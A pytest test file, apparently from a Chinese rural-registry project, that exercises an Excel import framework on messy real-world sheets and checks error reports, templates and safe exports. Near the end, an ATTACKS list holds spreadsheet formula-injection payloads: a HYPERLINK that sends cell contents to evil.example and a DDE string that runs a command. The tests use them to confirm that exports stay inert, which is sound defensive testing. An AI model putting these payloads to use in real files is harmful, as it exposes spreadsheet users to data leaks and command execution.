"""The Excel framework on the sheets people really send: titles, merged headers, hidden sheets,
numbers as text, lost leading zeros, full-width digits, dates in every form; and safe exports."""
import csv
import dataclasses
import datetime as dt
import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from xiangcun.core import validators
from xiangcun.core.excel import Column, Importer, RowError, error_workbook, export_response, import_rows
from xiangcun.divisions import services
from xiangcun.divisions.models import Division, Kind, Level


class FacilityImporter(Importer):
    """A small ledger that uses every kind of column; rows become villager groups of the village."""

    title = "设施台账"
    columns = (
        Column("名称", "name", required=True, width=20),
        Column("乡镇代码", "town", required=True, kind="unit", unit_label="乡镇", unit_filter={"level": Level.TOWNSHIP}),
        Column("村名称", "village", required=True, kind="unit", lookup="name", within="town", unit_label="村",
               unit_filter={"level": Level.VILLAGE}),
        Column("邮政编码", "postcode", kind="code", width=6),
        Column("人口", "population", kind="int", min_value=0),
        Column("面积", "area", kind="decimal", min_value=0),
        Column("建成日期", "built", kind="date"),
        Column("类别", "category", kind="choice", choices=(("school", "学校"), ("clinic", "卫生室"))),
        Column("在用", "in_use", kind="bool"),
        Column("负责人电话", "phone", validator=validators.mobile),
        Column("负责人身份证号", "id_no", validator=validators.id_number),
    )
    key = ("village", "name")

    def save_row(self, values):
        existing = Division.objects.filter(parent=values["village"], name=values["name"]).first()
        note = values["category"] or ""
        if existing is None:
            services.create_unit(values["name"], Kind.VILLAGER_GROUP, values["village"], values["built"],
                                 population=values["population"], note=note)
            return "created"
        if (existing.population, existing.note) == (values["population"], note):
            return "unchanged"
        existing.population, existing.note = values["population"], note
        existing.save()
        return "updated"


@pytest.fixture
def registry(db):
    """马尔康市 with two townships, each with a village called 松岗村 (names repeat across townships)."""
    day = dt.date(2020, 1, 1)
    county = services.create_unit("马尔康市", Kind.COUNTY, None, day, code="513201000000")
    songgang = services.create_unit("松岗镇", Kind.TOWN, county, day, code="513201102000")
    dangba = services.create_unit("党坝乡", Kind.TOWNSHIP, county, day, code="513201202000")
    units = {"county": county, "songgang": songgang, "dangba": dangba,
             "sg_village": services.create_unit("松岗村", Kind.VILLAGE, songgang, day, code="513201102200"),
             "zb_village": services.create_unit("直波村", Kind.VILLAGE, songgang, day, code="513201102201"),
             "db_village": services.create_unit("松岗村", Kind.VILLAGE, dangba, day, code="513201202200")}
    return units


def importer(registry):
    return FacilityImporter(scope=Division.objects.all())


def xlsx(wb) -> bytes:
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def quirky_workbook() -> bytes:
    """What a township office really sends."""
    wb = Workbook()
    old = wb.active
    old.title = "旧表"
    old.append(["名称", "乡镇代码", "村名称"])
    old.append(["作废", "999", "不存在村"])
    old.sheet_state = "hidden"
    ws = wb.create_sheet("台账")
    ws.append(["马尔康市设施台账(2021年)"])
    ws.merge_cells("A1:K1")
    ws.append(["名称", "所在地", None, "邮政\n编码", "人口", "面积", "建成日期", "类别", "在用", "负责人电话", "负责人身份证号"])
    ws.append([None, "乡镇代码", "村名称"])
    for col in "ADEFGHIJK":  # two-row header: cells merged down, the group header merged across
        ws.merge_cells(f"{col}2:{col}3")
    ws.merge_cells("B2:C2")
    ws.append(["\u3000一组\u3000", "513201102000", "松岗村", 10010, "１２０", "1,234.5", "2021年3月5日", "学校", "是",
               "138 0013 8000", "11010519491231002x"])
    ws.append(["二组", 513201102000, "直波村", "010010", " 45 ", 12, 44260, "卫生室", "否", 13800138000, None])
    ws.append(["三组", "５１３２０１１０２０００", "松岗村", "０１００１０", 7.0, None, dt.datetime(2021, 3, 5), "school", None,
               None, None])
    ws.append(["四组", "513201202000", "松岗村", None, None, None, "2021/3/5", None, None, None, None])
    for _ in range(3):
        ws.append([None, "", " "])
    wb.active = 1
    return xlsx(wb)


def test_a_real_world_sheet_parses(registry):
    result = importer(registry).parse(quirky_workbook())
    assert result.errors == []
    assert (result.sheet, result.header_row) == ("台账", 3)
    rows = {r.values["name"]: r for r in result.rows}
    assert list(rows) == ["一组", "二组", "三组", "四组"] and [r.line for r in result.rows] == [4, 5, 6, 7]
    one, two, three, four = (rows[n].values for n in ("一组", "二组", "三组", "四组"))
    assert one["town"] == registry["songgang"] and one["village"] == registry["sg_village"]
    assert four["village"] == registry["db_village"]  # the same name, found under its own township
    assert {one["postcode"], two["postcode"], three["postcode"]} == {"010010"}
    assert (one["population"], two["population"], three["population"]) == (120, 45, 7)
    assert str(one["area"]) == "1234.5"
    assert {r.values["built"] for r in result.rows} == {dt.date(2021, 3, 5)}
    assert (one["category"], two["category"], three["category"]) == ("school", "clinic", "school")
    assert (one["in_use"], two["in_use"], three["in_use"]) == (True, False, None)
    assert one["phone"] == two["phone"] == "13800138000" and one["id_no"] == "11010519491231002X"


def bad_workbook() -> bytes:
    wb = Workbook()
    ws = wb.active
    ws.append([c.header for c in FacilityImporter.columns])
    ws.append(["", "513201102000", "松岗村", "12345678", -1, "abc", "2021年2月30日", "医院", "也许", "12345", "110105194912310025"])
    ws.append(["一组", "513201999000", "松岗村", None, None, None, None, None, None, None, None])
    ws.append(["二组", "513201102000", "不存在村", None, None, None, None, None, None, None, None])
    ws.append(["三组", "513201102000", "直波村", None, None, None, None, None, None, None, None])
    ws.append(["三组", "513201102000", "直波村", None, None, None, None, None, None, None, None])
    ws.append(["四组", "#N/A", "直波村", None, None, None, None, None, None, None, None])
    return xlsx(wb)


def test_a_bad_sheet_reports_every_error_at_once_and_writes_nothing(registry):
    before = Division.objects.count()
    result = importer(registry).parse(bad_workbook())
    found = [(e.row, e.column, e.value, e.reason) for e in result.errors]
    assert found == [
        (2, "名称", "", "不能为空"),
        (2, "邮政编码", "12345678", "应为 6 位数字代码"),
        (2, "人口", "-1", "应为非负整数"),
        (2, "面积", "abc", "应为非负数"),
        (2, "建成日期", "2021年2月30日", "日期“2021年2月30日”不存在"),
        (2, "类别", "医院", "应为以下之一:学校、卫生室"),
        (2, "在用", "也许", "应填“是”或“否”"),
        (2, "负责人电话", "12345", "手机号“12345”应为 11 位数字,以 1 开头"),
        (2, "负责人身份证号", "110105194912310025", "身份证号校验码应为 X,实际为 5"),
        (3, "乡镇代码", "513201999000", "不是您管辖范围内现有的乡镇代码"),
        (4, "村名称", "不存在村", "松岗镇下没有名为“不存在村”的村"),
        (6, "名称", "三组", "与第 5 行重复"),
        (7, "乡镇代码", "#N/A", "单元格是公式错误值 #N/A,请填写实际内容"),
    ]
    assert [r.line for r in result.rows] == [5]
    assert Division.objects.count() == before


def test_a_name_without_its_parent_is_ambiguous(registry):
    class ByName(Importer):
        columns = (Column("村", "village", required=True, kind="unit", lookup="name", unit_label="村",
                          unit_filter={"level": Level.VILLAGE}),)

    wb = Workbook()
    wb.active.append(["村"])
    wb.active.append(["松岗村"])
    wb.active.append(["直波村"])
    result = ByName(scope=Division.objects.all()).parse(xlsx(wb))
    assert [e.reason for e in result.errors] == ["您管辖范围内有 2 个名为“松岗村”的村,请改填代码"]
    assert result.rows[0].values["village"] == registry["zb_village"]


def test_the_error_workbook_marks_the_bad_cells(registry):
    data = bad_workbook()
    result = importer(registry).parse(data)
    marked = load_workbook(io.BytesIO(error_workbook(data, result.errors)))
    ws = marked.worksheets[0]
    assert ws["A2"].fill.fgColor.rgb.endswith("FFC7CE") and ws["A2"].comment.text == "不能为空"
    assert "校验码应为 X" in ws["K2"].comment.text and ws["B3"].fill.fgColor.rgb.endswith("FFC7CE")
    assert ws["A5"].comment is None and not ws["A5"].fill.fgColor.rgb.endswith("FFC7CE")
    notes = list(marked["错误说明"].iter_rows(values_only=True))
    assert notes[0] == ("行", "列", "值", "原因") and len(notes) == len(result.errors) + 1
    assert notes[1] == (2, "名称", None, "不能为空")
    assert notes[3] == (2, "人口", "-1", "应为非负整数")  # text, shown as it was typed
    assert marked.active.title == ws.title


def test_what_is_not_a_spreadsheet_is_refused_in_chinese(registry):
    csv_bytes = "名称,乡镇代码\n一组,513201102000\n".encode("gbk")
    xls = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100
    other_zip = io.BytesIO()
    with zipfile.ZipFile(other_zip, "w") as z:
        z.writestr("word/document.xml", "<w/>")
    reasons = [importer(registry).parse(data).errors[0].reason for data in (csv_bytes, xls, other_zip.getvalue())]
    assert "不是 Excel 工作簿(.xlsx)" in reasons[0]
    assert "旧版 Excel(.xls)" in reasons[1] and "另存为" in reasons[1]
    assert "文件已损坏或不是 Excel 工作簿" in reasons[2]


def test_an_oversized_upload_is_refused_before_it_is_read(registry):
    class Upload(io.BytesIO):
        name, size = "big.xlsx", 11 * 1024 * 1024

    result = importer(registry).parse(Upload(b"PK\x03\x04"))
    assert result.refused and result.errors[0].reason.startswith("文件大小 11.0 MB,超过 10 MB 的上限")
    small = FacilityImporter(scope=Division.objects.all())
    small.max_bytes = 1000
    assert "超过" in small.parse(quirky_workbook()).errors[0].reason


def test_a_sheet_without_the_headers_says_which_are_missing(registry):
    wb = Workbook()
    wb.active.append(["名称", "村名称"])
    wb.active.append(["一组", "松岗村"])
    result = importer(registry).parse(xlsx(wb))
    assert result.refused and "缺少必填列:乡镇代码" in result.errors[0].reason


def test_reimporting_the_same_file_changes_nothing_and_a_changed_row_updates(registry):
    data = quirky_workbook()
    first = importer(registry).import_rows(importer(registry).parse(data).rows)
    assert (first.created, first.updated, first.unchanged, first.errors) == (4, 0, 0, [])
    count = Division.objects.count()
    again = importer(registry).import_rows(importer(registry).parse(data).rows)
    assert (again.created, again.updated, again.unchanged) == (0, 0, 4) and Division.objects.count() == count
    wb = load_workbook(io.BytesIO(data))
    wb["台账"]["E4"] = 121
    changed = importer(registry).import_rows(importer(registry).parse(xlsx(wb)).rows)
    assert (changed.created, changed.updated, changed.unchanged) == (0, 1, 3)
    assert Division.objects.get(parent=registry["sg_village"], name="一组").population == 121


def test_a_row_refused_while_writing_rolls_back_the_whole_import(registry):
    rows = importer(registry).parse(quirky_workbook()).rows
    imp = importer(registry)
    real_save = imp.save_row

    def save_row(values):
        if values["name"] == "三组":
            raise RowError("该村已满", "village")
        return real_save(values)

    before = Division.objects.count()
    counts = import_rows(rows, save_row, columns=imp.columns)
    assert [(e.row, e.column, e.reason) for e in counts.errors] == [(6, "村名称", "该村已满")]
    assert Division.objects.count() == before


def test_the_template_has_notes_dropdowns_and_a_frozen_header_and_reads_back_empty(registry):
    data = importer(registry).template()
    wb = load_workbook(io.BytesIO(data))
    ws = wb.active
    assert [c.value for c in ws[1]] == [c.header for c in FacilityImporter.columns]
    assert ws["A1"].font.b and ws.freeze_panes == "A2"
    assert ws["A1"].comment.text.startswith("必填") and "12 位统计用区划代码" in ws["B1"].comment.text
    lists = {dv.formula1 for dv in ws.data_validations.dataValidation}
    assert '"学校,卫生室"' in lists and '"是,否"' in lists
    assert ws["D2"].number_format == "@"  # codes typed into the template keep their leading zeros
    assert "填写说明" in wb.sheetnames
    result = importer(registry).parse(data)
    assert result.ok and result.rows == []


def test_a_template_is_built_once_and_shows_what_its_importer_declares_now(registry):
    """Templates are kept in memory, keyed by everything they show: a changed choice list gives a new one."""
    first = importer(registry).template()
    assert importer(registry).template() is first  # served from memory the second time

    class Renamed(FacilityImporter):
        columns = tuple(dataclasses.replace(c, choices=(("school", "学校"), ("clinic", "卫生院")))
                        if c.field == "category" else c for c in FacilityImporter.columns)

    ws = load_workbook(io.BytesIO(Renamed(scope=Division.objects.none()).template())).active
    assert '"学校,卫生院"' in {dv.formula1 for dv in ws.data_validations.dataValidation}


def test_a_long_choice_list_lives_on_a_hidden_sheet(registry):
    class Many(Importer):
        columns = (Column("民族", "ethnic", kind="choice", choices=[(i, f"民族名称{i:02d}") for i in range(56)]),)

    wb = load_workbook(io.BytesIO(Many().template()))
    assert wb["选项"].sheet_state == "hidden" and wb["选项"]["A56"].value == "民族名称55"
    assert wb.active.data_validations.dataValidation[0].formula1 == "选项!$A$1:$A$56"


ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1"]


def test_the_xlsx_export_stores_formula_text_as_text(db):
    response = export_response(iter([[a, -3, dt.date(2021, 3, 5)] for a in ATTACKS]), ["内容", "数值", "日期"], "导出")
    assert "filename*=utf-8''%E5%AF%BC%E5%87%BA.xlsx" in response["Content-Disposition"]
    data = response.content
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml
    ws = load_workbook(io.BytesIO(data)).active
    assert [ws.cell(r, 1).value for r in range(2, 2 + len(ATTACKS))] == ATTACKS  # shown as typed, never run
    assert {ws.cell(r, 1).data_type for r in range(2, 2 + len(ATTACKS))} == {"s"}
    assert ws["B2"].value == -3 and ws["C2"].value.date() == dt.date(2021, 3, 5)


def test_the_csv_export_prefixes_formula_text_and_streams_with_a_bom(db):
    response = export_response(iter([[a, -3, dt.date(2021, 3, 5)] for a in ATTACKS]), ["内容", "数值", "日期"], "导出",
                               fmt="csv")
    assert response.streaming and response["Content-Type"] == "text/csv; charset=utf-8"
    raw = b"".join(response.streaming_content)
    assert raw.startswith("\ufeff内容".encode("utf-8"))
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert [r[0] for r in rows[1:]] == ["'" + a for a in ATTACKS]
    assert rows[1][1:] == ["-3", "2021-03-05"]
